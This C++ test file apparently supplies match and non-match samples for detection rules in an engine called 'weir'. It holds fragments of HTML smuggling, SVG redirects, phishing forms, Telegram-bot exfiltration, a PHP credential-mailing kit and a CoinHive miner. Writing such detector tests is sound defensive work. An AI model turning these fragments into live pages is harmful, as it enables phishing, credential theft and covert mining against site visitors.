#include "tests/rules/samples.h"

namespace weir {

std::vector<RuleSample> page_samples() {
  const std::string save =
      "<script>var b = new Blob([at"
      "ob(d)]); a.download = 'x'; ";
  const std::string rar =
      "var d = 'UmFy"
      "IRoH" +
      std::string(240, 'A') + "';";
  const std::string cipher =
      "<script>u = new Uint8Array(9); u[i] = s.charCode"
      "At(i) ^ k; new Blob(u);"
      "a.download = 'x'; " +
      std::string(9000, ' ');
  const std::string svg = "<svg xmlns='http://www.w3.org/2000/svg'><script>";
  const std::string form = "<title>Sign in to your account</title><input type=\"password\">";
  const std::string bot =
      "fetch('https://api.telegram.org/b"
      "ot1:x/sendMessage')";
  const std::string kit =
      "<?php $p = $_PO"
      "ST['password']; $i = $_SERVER['REMOTE_ADDR'];"
      "$b = $_SERVER['HTTP_USER_AGENT'];";
  return {
      {"weir_html_smuggles_container", save + "a.click();" + rar, save + rar},
      {"weir_html_smuggles_container", save + "a.click();" + rar,
       save + "a.click(); var d = 'iVBORw0KGgo" + std::string(240, 'A') + "';"},
      {"weir_html_smuggles_enciphered", cipher + "a.click()", cipher + "a.focus()"},
      {"weir_svg_leads_away",
       svg + "window.location.href = at"
             "ob('x')",
       svg + "t = at"
             "ob('x')"},
      {"weir_phish_login_page", "<form action=\"https://a.test/next.php\">" + form,
       "<form action=\"/oauth/authorize\">" + form},
      {"weir_phish_by_telegram", "<input type='password'>" + bot, "<input type='text'>" + bot},
      {"weir_phish_kit_mailer", kit + "$m = '----- Login Info'; mail($to, 'x', $m);",
       kit + "$m = 'New sign-in'; mail($to, 'x', $m);"},
      {"weir_browser_miner",
       "m = new Coin"
       "Hive.Anonymous('k'); m.start();",
       "m = new Coin"
       "Price.Widget('k'); m.start();"},
  };
}

}  // namespace weir
